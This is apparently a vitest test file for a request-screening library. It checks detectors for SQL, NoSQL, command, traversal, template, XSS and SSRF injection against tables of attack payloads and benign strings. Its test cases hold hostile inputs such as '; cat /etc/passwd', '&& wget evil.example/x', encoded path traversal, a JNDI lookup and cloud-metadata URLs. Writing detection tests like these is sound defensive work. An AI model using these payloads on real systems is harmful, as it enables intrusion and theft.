import { describe, expect, it } from 'vitest';
import { ATTACKS } from './attacks.ts';
import { BENIGN_CORPUS } from './benign-corpus.ts';
import { AllowList, DETECTOR_IDS, DETECTORS, Screener, detects, isInternalAddress, parseLocation, percentDecode, pointerOf, type DetectorId, type Finding } from './index.ts';

function firing(value: string): DetectorId[] {
  return DETECTOR_IDS.filter((id) => detects(id, value));
}

describe('attack table', () => {
  it('has at least 150 payloads covering every detector', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(150);
    for (const id of DETECTOR_IDS) expect(ATTACKS.filter((a) => a.detector === id).length, id).toBeGreaterThanOrEqual(20);
  });

  it.each(ATTACKS.map((a) => [a.detector, a.payload] as const))('%s detects %j', (detector, payload) => {
    expect(detects(detector, payload)).toBe(true);
  });
});

describe('benign corpus', () => {
  it('has at least 300 strings', () => {
    expect(BENIGN_CORPUS.length).toBeGreaterThanOrEqual(300);
  });

  it('trips exactly the known false positives (a change in either direction must be looked at)', () => {
    const tripped = BENIGN_CORPUS.filter((s) => firing(s).length > 0).map((s) => `${firing(s).join(',')}: ${s}`);
    // "127.5" is also the loopback short form of 127.0.0.5 (WHATWG URL), which the ssrf detector must catch as
    // "127.1"; a bare decimal cannot tell the two apart. Rate: 1 / BENIGN_CORPUS.length.
    expect(tripped).toEqual(['ssrf: 127.5']);
    expect(tripped.length / BENIGN_CORPUS.length).toBeLessThan(0.01);
  });
});

describe('sql', () => {
  const yes = [
    "' or 1=1 --",
    "x' OR 'x'='x",
    '1 or 1=1',
    "1' and '1'='1",
    '10 AND 1=1',
    "' or username is not null--",
    "'; shutdown--",
    "' OR ''='",
    "admin' #",
    '1 union all select null,null,null--',
    "1' union select table_name from information_schema.tables--",
    '1;declare @x varchar(99)',
    '1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)',
    "'+(select 1)+'",
    '1;/*!50000DROP*/ TABLE users',
    '1;/**/DROP/**/TABLE/**/users',
  ];
  const no = [
    "O'Brien",
    "I'm OK; you're OK.",
    'select a seat',
    'Please select all that apply.',
    'The union selected a new leader.',
    "It's 'a' or 'b', I think",
    'He said "yes" -- I think',
    '1 or 2 people',
    'sleep (8 hours)',
    'time.sleep(5)',
    'Order by 5pm; delete from the cart what you do not need.',
    '#1 priority',
    "Ruby: \"#{first}\"",
  ];
  it.each(yes)('detects %j', (s) => expect(detects('sql', s)).toBe(true));
  it.each(no)('passes %j', (s) => expect(detects('sql', s)).toBe(false));
});

describe('nosql', () => {
  it.each(['q[$ne]=1', 'q[$gt]=', '{"$gt":""}', '{$ne: 1}', "'; return true; //", 'this.role == "admin"'])('detects %j', (s) => expect(detects('nosql', s)).toBe(true));
  it.each(['$5 off', 'Price: $10', '{"$schema":"x","$ref":"#/a"}', 'a[0]=1', 'return to sender', 'this.is fine'])('passes %j', (s) => expect(detects('nosql', s)).toBe(false));
});

describe('command', () => {
  it.each(['; cat /etc/passwd', '|id', '$(id)', '`whoami`', '&& wget evil.example/x', '\nrm -rf /tmp', ';${IFS}cat${IFS}/etc/passwd'])('detects %j', (s) => expect(detects('command', s)).toBe(true));
  it.each(['Tom & Jerry', 'R&D', 'rock | pop', 'Pick one; cat lovers welcome', 'We work & sleep 8 hours', '&amp; &lt;', '$((1+1))', '$(document).ready(fn)'])('passes %j', (s) =>
    expect(detects('command', s)).toBe(false),
  );
});

describe('traversal', () => {
  it.each(['../a', 'a/../../b', '..\\a', '%2e%2e%2f', '%252e%252e%252f', '%c0%ae%c0%ae/', '..%2f', 'a%00b', '..;/x'])('detects %j', (s) => expect(detects('traversal', s)).toBe(true));
  it.each(['wait...', '1..10', 'v1..v2', './a/b', 'a.b.c', '...and more', 'etc/passwords are secret'])('passes %j', (s) => expect(detects('traversal', s)).toBe(false));
});

describe('template', () => {
  it.each(['{{7*7}}', '${{7*7}}', '#{ 3 * 3 }', "{{''.__class__}}", '${jndi:dns://x}', '<%= File.read("/etc/passwd") %>'])('detects %j', (s) => expect(detects('template', s)).toBe(true));
  it.each(['{{name}}', '${user.name}', '#{id}', '{{ user.first_name }}', '${HOME}', 'a{b}c', '{% raw %}'])('passes %j', (s) => expect(detects('template', s)).toBe(false));
});

describe('xss', () => {
  it.each(['<script>', '<ScRiPt src=x>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', 'javascript:alert(1)', ' javascript:alert(1)', '<a href=" javascript:alert(1)">', "');alert(1)//"])(
    'detects %j',
    (s) => expect(detects('xss', s)).toBe(true),
  );
  it.each(['a<b', 'a < b > c', '<b>bold</b>', '<a href="https://example.com">x</a>', 'JavaScript: The Good Parts (2008)', 'Please confirm (by Friday)', 'scripting', '<scripts>'])(
    'passes %j',
    (s) => expect(detects('xss', s)).toBe(false),
  );
});

describe('ssrf', () => {
  it.each([
    ['http://127.0.0.1/', true],
    ['http://2130706433/', true],
    ['http://017700000001/', true],
    ['http://0x7f.0x0.0x0.0x1/', true],
    ['http://[::]/', true],
    ['http://[::ffff:a9fe:a9fe]/', true],
    ['http://169.254.169.254.nip.io/', true],
    ['http://[2002:7f00:1::]/', true],
    ['http://100.127.255.255/', true],
    ['http://100.128.0.1/', false],
    ['http://172.32.0.1/', false],
    ['http://192.169.0.1/', false],
    ['https://example.com/', false],
    ['https://8.8.8.8/', false],
    ['https://[2001:4860:4860::8888]/', false],
    ['10.0.0.7', true],
    ['127.0.1', true],
    ['10.2.1', false],
    ['127', false],
    ['2130706433', false],
    ['0x7f000001:80', true],
    ['[::1]:8080', true],
    ['metadata', false],
    ['http://metadata/', true],
    ['file: report.pdf', false],
    ['file:/etc/passwd', true],
    ['the host is localhost', false],
  ] as const)('%j → %s', (value, expected) => {
    expect(detects('ssrf', value)).toBe(expected);
  });

  it('classifies addresses with node:net BlockList, including IPv4 embedded in IPv6', () => {
    expect(isInternalAddress('127.0.0.1')).toBe(true);
    expect(isInternalAddress('::ffff:10.1.2.3')).toBe(true);
    expect(isInternalAddress('::10.1.2.3')).toBe(true);
    expect(isInternalAddress('64:ff9b::a00:1')).toBe(true);
    expect(isInternalAddress('64:ff9b::808:808')).toBe(false);
    expect(isInternalAddress('fd00:ec2::254')).toBe(true);
    expect(isInternalAddress('fe80::1')).toBe(true);
    expect(isInternalAddress('2001:db8::1')).toBe(false);
    expect(isInternalAddress('not an address')).toBe(false);
  });
});

describe('decoding', () => {
  it('percent-decodes leniently, with overlong UTF-8 and %u forms, never throwing', () => {
    expect(percentDecode('%2e%2e%2f')).toBe('../');
    expect(percentDecode('%c0%ae%c0%af')).toBe('./');
    expect(percentDecode('%e0%80%ae')).toBe('.');
    expect(percentDecode('%u002e%u002F')).toBe('./');
    expect(percentDecode('%C3%BC')).toBe('ü');
    expect(percentDecode('50% off %zz %')).toBe('50% off %zz %');
    expect(percentDecode('%ff%fe')).toBe('\ufffd\ufffd');
    expect(percentDecode('%252e')).toBe('%2e');
  });

  it('sees through up to three rounds of encoding, not more', () => {
    expect(detects('traversal', '%25252e%25252e%25252f')).toBe(true);
    expect(detects('traversal', '%2525252e%2525252e%2525252f')).toBe(false);
  });

  it('every detector is a function of one string and never throws on hostile text', () => {
    const hostile = ['\u0000', '\ud800', '%', '%%%', '\\', "'''", '"""', '((((', '))))', '<'.repeat(100), '{{'.repeat(100), '\u202e', '\ufeff', 'a'.repeat(5000)];
    for (const id of DETECTOR_IDS) for (const s of hostile) expect(() => DETECTORS[id](s)).not.toThrow();
  });
});

describe('locations and allow-lists', () => {
  it('escapes pointer segments (RFC 6901) and cuts long, client-chosen ones', () => {
    expect(pointerOf(['body', 'a/b', 'm~n'])).toBe('/body/a~1b/m~0n');
    const long = pointerOf(['body', 'x'.repeat(500)]);
    expect(long.length).toBeLessThan(80);
    expect(long.endsWith('…')).toBe(true);
  });

  it('parses pointers and dotted paths', () => {
    expect(parseLocation('/body/items/*/note')).toEqual({ ok: true, segments: ['body', 'items', '*', 'note'] });
    expect(parseLocation('/a~1b/c~0d')).toEqual({ ok: true, segments: ['a/b', 'c~d'] });
    expect(parseLocation('users[].email')).toEqual({ ok: true, segments: ['users', '*', 'email'] });
    expect(parseLocation('users[3].email')).toEqual({ ok: true, segments: ['users', '3', 'email'] });
    expect(parseLocation('a[*][1]')).toEqual({ ok: true, segments: ['a', '*', '1'] });
    for (const bad of ['', 'a..b', '.a', 'a[', 'a[x]', '/a~2']) expect(parseLocation(bad).ok, bad).toBe(false);
  });

  it('allows a location and everything below it, with * for any one segment', () => {
    const allow = new AllowList(['/body/comment', '/body/items/*/note', 'query.q']);
    expect(allow.allows(['body', 'comment'])).toBe(true);
    expect(allow.allows(['body', 'comment', 'deep', '0'])).toBe(true);
    expect(allow.allows(['body', 'items', '7', 'note'])).toBe(true);
    expect(allow.allows(['body', 'items', '7', 'title'])).toBe(false);
    expect(allow.allows(['query', 'q'])).toBe(true);
    expect(allow.allows(['body'])).toBe(false);
    expect(new AllowList([]).allows(['body'])).toBe(false);
  });
});

describe('Screener', () => {
  it('walks JSON: values, nested arrays, and keys (operator keys are nosql), reporting pointers only', () => {
    const screener = new Screener([...DETECTOR_IDS], [], false);
    const findings: Finding[] = [];
    screener.scanJson(
      { user: { name: "O'Brien", pass: { $ne: 1 } }, items: [{ note: 'fine' }, { note: "1' OR '1'='1" }], "x' OR 1=1--": 1, url: 'http://169.254.169.254/' },
      ['body'],
      findings,
    );
    expect(findings).toEqual([
      { detector: 'nosql', location: '/body/user/pass', part: 'key' },
      { detector: 'sql', location: '/body/items/1/note', part: 'value' },
      { detector: 'sql', location: '/body', part: 'key' },
      { detector: 'ssrf', location: '/body/url', part: 'value' },
    ]);
    expect(JSON.stringify(findings)).not.toContain('OR');
  });

  it('skips allowed locations and stops at the first finding when asked', () => {
    const screener = new Screener(['sql', 'xss'], ['/body/html', '/body/items/*/q'], true);
    const findings: Finding[] = [];
    expect(screener.scanJson({ html: '<script>x</script>', items: [{ q: "' OR 1=1--" }], a: '<script>', b: "' OR 1=1--" }, ['body'], findings)).toBe(false);
    expect(findings).toEqual([{ detector: 'xss', location: '/body/a', part: 'value' }]);
  });

  it('runs only the configured detectors', () => {
    const screener = new Screener(['ssrf'], [], false);
    expect(screener.screenString("' OR 1=1--")).toBeUndefined();
    expect(screener.screenString('http://127.0.0.1/')).toBe('ssrf');
  });

  it('screens name/value pairs: values at /query/<name>, a bracket operator in a name as a key finding', () => {
    const screener = new Screener([...DETECTOR_IDS], [], false);
    const findings: Finding[] = [];
    screener.scanPairs(new URLSearchParams('q=hello&pass[$ne]=1&id=1%20OR%201%3D1'), 'query', findings);
    expect(findings).toEqual([
      { detector: 'nosql', location: '/query', part: 'key' },
      { detector: 'sql', location: '/query/id', part: 'value' },
    ]);
  });

  // Log mode walks on below a key that was a finding; the findings below it must not carry that key (an attack
  // payload in the event and its log line). The control row: a harmless key keeps its name.
  const payloadKeys: Array<[name: string, body: unknown, findings: Finding[], payloads: string[]]> = [
    [
      'SQL payload key over a nested XSS value',
      { "x' OR 1=1--": { note: '<script>alert(1)</script>' } },
      [
        { detector: 'sql', location: '/body', part: 'key' },
        { detector: 'xss', location: '/body/*/note', part: 'value' },
      ],
      ['OR 1', 'script'],
    ],
    [
      'payload keys two levels deep, under an array, with a line break and RFC 6901 specials',
      { items: [{ '<img src=x onerror=alert(1)>': { '../../etc/passwd\n{"level":60}': { q: "1' UNION SELECT pass FROM users--" } } }] },
      [
        { detector: 'xss', location: '/body/items/0', part: 'key' },
        { detector: 'traversal', location: '/body/items/0/*', part: 'key' },
        { detector: 'sql', location: '/body/items/0/*/*/q', part: 'value' },
      ],
      ['onerror', 'passwd', '..~1', 'level', '\\n', 'UNION'],
    ],
    [
      'operator key over a nested payload',
      { user: { $where: { note: 'fine' }, $gt: ['{{7*7}}'] } },
      [
        { detector: 'nosql', location: '/body/user', part: 'key' },
        { detector: 'nosql', location: '/body/user', part: 'key' },
        { detector: 'template', location: '/body/user/*/0', part: 'value' },
      ],
      ['$where', '$gt', '{{'],
    ],
    [
      'control: a harmless key keeps its name',
      { note: { text: '<script>alert(1)</script>' } },
      [{ detector: 'xss', location: '/body/note/text', part: 'value' }],
      ['script'],
    ],
  ];
  it.each(payloadKeys)('log mode: a key that was a finding never appears in the locations below it: %s', (_name, body, expected, payloads) => {
    const screener = new Screener([...DETECTOR_IDS], [], false);
    const findings: Finding[] = [];
    expect(screener.scanJson(body, ['body'], findings)).toBe(true);
    expect(findings).toEqual(expected);
    for (const payload of payloads) expect(JSON.stringify(findings)).not.toContain(payload);
  });

  it.each([
    ['<script>x</script>=1%27%20OR%201%3D1--', [{ detector: 'xss', location: '/query', part: 'key' }, { detector: 'sql', location: '/query/*', part: 'value' }], ['script']],
    ['..%2F..%2Fetc%2Fpasswd=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', [{ detector: 'traversal', location: '/query', part: 'key' }, { detector: 'xss', location: '/query/*', part: 'value' }], ['passwd', '..']],
    ['id=1%27%20OR%201%3D1--', [{ detector: 'sql', location: '/query/id', part: 'value' }], ['OR']],
  ] as Array<[string, Finding[], string[]]>)('log mode: a query name that was a finding never appears in its value\'s location: %s', (query, expected, payloads) => {
    const screener = new Screener([...DETECTOR_IDS], [], false);
    const findings: Finding[] = [];
    expect(screener.scanPairs(new URLSearchParams(query), 'query', findings)).toBe(true);
    expect(findings).toEqual(expected);
    for (const payload of payloads) expect(JSON.stringify(findings)).not.toContain(payload);
  });

  it('caps findings per request', () => {
    const screener = new Screener(['xss'], [], false);
    const findings: Finding[] = [];
    screener.scanJson(Array.from({ length: 100 }, () => '<script>'), ['body'], findings);
    expect(findings.length).toBe(16);
  });
});
